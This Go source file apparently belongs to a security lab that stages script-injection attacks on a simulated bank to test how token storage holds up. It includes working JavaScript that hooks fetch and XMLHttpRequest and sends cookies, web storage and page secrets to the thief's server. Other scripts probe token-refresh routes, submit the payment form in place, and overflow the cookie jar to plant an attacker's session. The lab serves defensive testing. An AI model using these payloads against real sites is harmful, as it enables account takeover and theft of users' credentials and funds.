package lab

import (
	"fmt"
	"maps"
	"slices"
	"strconv"
	"strings"
)

// scriptAttacks are those of script in the bank's own page.
var scriptAttacks = []Attack{
	{Name: "script-reads", Title: "Script reads the token and uses it elsewhere", Browser: true, run: scriptReads,
		About: "Script of the thief runs in the bank's page. It sends him everything that it can read, and what passes through fetch; he tries all of it from his own machine."},
	{Name: "script-asks", Title: "Script asks the bank for tokens", Browser: true, run: scriptAsks,
		About: "Script of the thief asks every route that might give tokens, as the page itself could, and sends him the answers; he tries them from his own machine."},
	{Name: "script-waits", Title: "Script stays and waits for renewals", Browser: true, run: scriptWaits,
		About: "Script of the thief stays in a page that is left open and listens while the tokens are renewed three times. The thief tries only what the last renewal brought."},
	{Name: "script-in-place", Title: "Script uses the session in place", Browser: true, run: scriptPays,
		About: "Script of the thief never looks for a token: it fills the bank's own form in and sends it, while the owner has the page open."},
	{Name: "jar-overflow", Title: "Script overflows the cookie jar", Browser: true, run: scriptOverflows,
		About: "A browser keeps 180 cookies of a domain. Script of the thief makes so many that the bank's are dropped, HttpOnly or not, and puts those of the thief's own session in their place, so that the owner goes on in the thief's account."},
}

// spy is the script of a thief who takes what he can read. It comes before the
// bank's own script, so that it sees what passes through fetch.
const spy = `
globalThis.thief = (() => {
	const home = "%s/loot", ask = fetch.bind(globalThis), under = new Set();
	const send = (what) => ask(home, {method: "POST", mode: "no-cors", keepalive: true, body: JSON.stringify(what)});
	const track = (promise) => { under.add(promise); promise.finally(() => under.delete(promise)); return promise; };
	globalThis.fetch = (input, init) => track((async () => {
		const request = new Request(input, init);
		const asked = {...Object.fromEntries(request.headers), body: await request.clone().text()};
		const answer = await ask(request);
		await send({asked, answered: await answer.clone().text()});
		return answer;
	})());
	const set = XMLHttpRequest.prototype.setRequestHeader;
	XMLHttpRequest.prototype.setRequestHeader = function (name, value) { track(send({[name]: value})); return set.call(this, name, value); };
	const read = () => track(send({
		cookie: document.cookie, local: {...localStorage}, session: {...sessionStorage},
		globals: Object.values(globalThis).filter((v) => typeof v === "string" && v !== location.origin),
		page: [...document.querySelectorAll("script[type], meta[content], input[type=hidden]")].map((e) => e.content || e.value || e.textContent),
	}));
	const rest = async () => {
		do {
			while (under.size) await Promise.allSettled([...under]);
			await new Promise((done) => setTimeout(done, 50)); // what follows from an answer
		} while (under.size);
	};
	return {ask, send, read, rest, sent: async () => { await rest(); await read(); return true; }};
})();
addEventListener("error", (event) => event.preventDefault());
`

// opensWith has the owner, who is signed in, open the bank's page with script
// of the thief in it. Where he is not signed in any more once the page was
// loaded anew, he signs in there.
func (s *stage) opensWith(script string) *tab {
	s.did("The owner signs in.")
	tab := s.tab()
	tab.signIn(ada)
	s.did("The thief writes script onto the notice board; the owner opens the page, and signs in there if he has to.")
	s.bank.inject(script)
	tab.visit("/")
	if tab.greeted() != ada {
		tab.signIn(ada)
	}
	return tab
}

// greeted is whom the bank greets once its page has asked; empty: nobody.
func (t *tab) greeted() string {
	t.await(`document.readyState === "complete" && ("asked" in document.body.dataset || location.pathname.startsWith("/auth/"))`)
	return t.who()
}

// drain waits until the thief's script has sent what it knows.
func (t *tab) drain() { eval[bool](t, "thief.sent()") }

func scriptReads(s *stage) Outcome {
	tab := s.opensWith(scriptf(spy, s.stranger))
	tab.drain()
	tab.see()
	s.did("The thief tries everything that came, as a bearer token and as a cookie.")
	if s.worksElsewhere(s.looted()) {
		return elsewhere("Script can read it, or sees it pass by, so it is as good in other hands.")
	}
	return refused("Script can read nothing that is worth anything elsewhere.")
}

// tokenRoutes is script that asks all routes that might give tokens to a page,
// with a refresh token if script can read one.
const tokenRoutes = `(async () => {
	const refresh = localStorage.getItem("refresh_token") ?? sessionStorage.getItem("refresh_token") ?? "";
	const json = (body) => ({method: "POST", headers: {"Content-Type": "application/json"}, body: JSON.stringify(body)});
	for (const [path, init] of [
		["/refresh", json({refresh_token: refresh})], ["/refresh", {method: "POST"}],
		["/auth/refresh", {method: "POST"}], ["/auth/refresh", json({transport: "bearer"})],
		["/auth/token", {method: "POST", body: new URLSearchParams({grant_type: "refresh_token", refresh_token: refresh, client_id: "app"})}],
		["/auth/token", {method: "POST", body: new URLSearchParams({grant_type: "client_credentials", client_id: "app"})}],
		["/auth/session", {}], ["/auth/sessions", {}], ["/auth/verify", {}], ["/api/me", {}],
	]) {
		const answer = await thief.ask(path, init);
		await thief.send({path, answered: await answer.text()});
	}
	return true;
})()`

func scriptAsks(s *stage) Outcome {
	tab := s.opensWith(scriptf(spy, s.stranger))
	tab.drain()
	before := len(s.looted())
	s.did("The script asks whatever might give tokens, and sends the thief the answers.")
	eval[bool](tab, tokenRoutes)
	tab.see()
	s.did("The thief tries what was in the answers.")
	if s.worksElsewhere(s.looted()[before:]) {
		return elsewhere("The bank gives a token to whoever asks in the owner's browser.")
	}
	return refused("No route gives a token to script.")
}

// renewals is how many of them the thief listens to.
const renewals = 3

func scriptWaits(s *stage) Outcome {
	tab := s.opensWith(scriptf(spy, s.stranger))
	tab.drain()
	before := 0
	for i := range renewals {
		s.did("Renewal %d: the page renews what it holds, and the script listens.", i+1)
		before = len(s.looted())
		eval[bool](tab, `(dispatchEvent(new Event("renew")), thief.rest().then(() => true))`)
		// A page whose script never sees a token is renewed as its client does it.
		eval[int](tab, `thief.ask("/auth/refresh", {method: "POST"}).then(async (a) => (await thief.send({answered: await a.text()}), a.status))`)
		tab.drain()
	}
	tab.see()
	s.did("The thief tries what the last renewal brought.")
	if s.worksElsewhere(s.looted()[before:]) {
		return elsewhere("Whatever a renewal brings passes through script, or lies where script reads it.")
	}
	return refused("Renewals bring nothing that script gets to see.")
}

func scriptPays(s *stage) Outcome {
	tab := s.opensWith(scriptf(spy, s.stranger))
	s.did("The script fills in the bank's own form, and sends it.")
	eval[any](tab, `void setTimeout(() => { const form = document.getElementById("pay"); form.to.value = "mallory"; form.requestSubmit(); })`)
	paid := s.awaits(func() bool { return s.bank.paid(ada, mallory) })
	tab.await(`document.readyState === "complete"`)
	tab.see()
	if paid {
		return inPlace("What runs in the page is the page, wherever the token is: no storage prevents this, and it ends when the page is closed.")
	}
	return refused("The bank has not paid.")
}

// fill400 is script that makes so many cookies that all older ones of the domain
// are dropped; what it is given stands behind each.
const fill400 = `for (let i = 0; i < 400; i++) document.cookie = "j" + i + "=1; Secure; Path=/%s"; await cookieStore.getAll();`

func scriptOverflows(s *stage) Outcome {
	planted := s.ownCookies()
	if len(planted) == 0 {
		return notApplicable("The bank keeps nothing in cookies.")
	}
	tab := s.opensWith(scriptf(spy, s.stranger))
	s.did("The script overflows the jar, and plants the cookies of the thief.")
	tab.plants(fill400, "", planted)
	return tab.swapped("Script could make the cookie that the bank reads once the jar had dropped the real one.",
		"The jar dropped the owner's cookies, and script cannot make one that the bank takes: he has to sign in again.")
}

// A planted cookie is one of the thief's own, with the attributes that it needs
// to be planted.
type planted struct{ name, value, path string }

// ownCookies are those of the thief at the bank, after he signed in.
func (s *stage) ownCookies() []planted {
	s.did("The thief signs in at the bank, on his own machine and with his own name.")
	thief := s.signedIn("thief", mallory)
	var out []planted
	for _, name := range slices.Sorted(maps.Keys(thief.jar)) {
		out = append(out, planted{name, thief.jar[name].value, thief.jar[name].path})
	}
	return out
}

// plants has script in the tab do something with the jar first, and then plant
// cookies; more stands behind each of them, as "; Domain=bank.test".
func (t *tab) plants(first, more string, cookies []planted) {
	var script strings.Builder
	script.WriteString("(async () => {")
	if first != "" {
		script.WriteString(scriptf(first, more))
	}
	for _, c := range cookies {
		script.WriteString("document.cookie = " + strconv.Quote(c.name+"="+c.value+"; Secure; Path="+c.path+more) + ";")
	}
	script.WriteString("await cookieStore.getAll(); return true; })()")
	eval[bool](t, script.String())
	t.see()
}

// swapped has the owner go on in the bank, and tells in whose name.
func (t *tab) swapped(worked, refusal string) Outcome {
	t.stage.did("The owner goes on in the bank.")
	t.visit("/")
	name := t.greeted()
	t.see()
	if name == mallory || t.paysAs(name) == mallory {
		return inPlace(worked)
	}
	return refused(refusal)
}

// paysAs has the owner pay somebody, and tells in whose name the bank did so;
// empty: it did not.
func (t *tab) paysAs(greeted string) string {
	if greeted == "" {
		return ""
	}
	const baker = "the baker"
	eval[any](t, fmt.Sprintf(`void setTimeout(() => { const form = document.getElementById("pay"); form.to.value = %q; form.requestSubmit(); })`, baker))
	by := ""
	t.stage.awaits(func() bool {
		for _, name := range []string{ada, mallory} {
			if t.stage.bank.paid(name, baker) {
				by = name
			}
		}
		return by != ""
	})
	return by
}
